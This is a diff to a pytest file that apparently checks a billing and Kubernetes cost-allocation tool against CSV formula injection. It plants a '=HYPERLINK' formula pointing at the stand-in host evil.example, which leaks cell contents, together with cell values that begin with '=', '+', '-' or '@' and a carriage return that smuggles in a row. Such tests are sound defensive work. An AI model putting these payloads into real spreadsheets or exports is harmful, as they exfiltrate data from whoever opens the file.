@@ -4,10 +4,11 @@ import re
 
 import pytest
 
-from tests.bills import focus_line, write_focus, write_signals
+from tests.bills import focus_line, write_focus, write_workloads
 from tests.spreadsheets import evaluated_cells
 from tests.trueback_command import trueback
 
+HOUR = "2026-10-03T04:00:00Z"
 EVIL = '=HYPERLINK("http://evil.example?"&A1)'
 # Where nothing in it is quoted, a carriage return ends a row and what follows starts a cell.
 AS_A_ROW = "row\r=1+1"
@@ -15,8 +16,8 @@ RULES = """
 version: 1
 currency: USD
 tenants: [{key: acme, name: "+acme"}, {key: globex}]
-labels: {tenant: ["tag:@customer"]}
-pools: [{name: nat, when: {usage_type: ['Nat*']}, drivers: [{signal: bytes}, {even: true}]}]
+labels: {tenant: ["tag:@customer", "k8s.label:@customer"]}
+pools: [{name: nat, when: {usage_type: ['Nat*']}, drivers: [{signal: "=bytes"}, {even: true}]}]
 rules: [{name: "-mine", when: {service: ["-Other"]}, assign: {tenant: acme}}]
 """
 NAMED_BY_OTHERS = {
@@ -31,8 +32,11 @@ NAMED_BY_OTHERS = {
     "ProviderName": EVIL,
     "InvoiceIssuerName": EVIL,
 }
-FILES = ("--bill", "bill.csv", "--signals", "signals.csv")
+FILES = ("--bill", "bill.csv", "--signals", "signals.csv", "--workloads", "workloads.csv")
 
+
+MEMORY = ("memory_request_gib_hours", "memory_used_gib_hours")
+EMPTY = ("labels", "annotations", "namespace_labels", "namespace_annotations", "gpu_hours")
 
 # A negative amount as a number, and as the text of one.
 NEGATIVE, AS_TEXT = re.compile(r",-\d"), re.compile(r"'-\d")
@@ -49,9 +53,23 @@ def work(tmp_path):
         focus_line(cost="2", **NAMED_BY_OTHERS),
         focus_line(cost="-7", **NAMED_BY_OTHERS | {"ServiceName": "-Other"}),
         focus_line(cost="4", SkuMeter="NatGateway-Bytes", **NAMED_BY_OTHERS),
+        focus_line(cost="8", **NAMED_BY_OTHERS | {"ResourceId": "i-0aaa"}),
     ]
     write_focus(tmp_path / "bill.csv", lines)
-    write_signals(tmp_path / "signals.csv", "bytes 2026-10-03T04:00:00Z globex 3")
+    signal = {"meter": "=bytes", "start": HOUR, "consumer": "globex", "quantity": "3"}
+    # Both are files of rows, in whose cells we have a say.
+    write_workloads(tmp_path / "signals.csv", [signal | dict.fromkeys(("unit", "source"), EVIL)])
+    of_nodes = {"node_cpu_core_hours": "4", "node_memory_gib_hours": "8"}
+    of_pods = ("cpu_request_core_hours", "cpu_used_core_hours", *MEMORY)
+    rows = [
+        dict.fromkeys((*EMPTY, *of_pods, "namespace", "pod"), ""),
+        dict.fromkeys(of_pods, "1") | {"labels": {"@customer": "acme"}},
+        dict.fromkeys(of_pods, "1") | {"labels": {"@customer": EVIL}, "pod": "-pod"},
+    ]
+    names = dict.fromkeys(("node", "cluster", "namespace", "pod"), EVIL)
+    usual = names | of_nodes | {"start": HOUR, "provider_id": "aws:///a/i-0aaa"}
+    pods = [dict.fromkeys(EMPTY, "") | usual | row for row in rows]
+    write_workloads(tmp_path / "workloads.csv", pods)
     return tmp_path
 
 
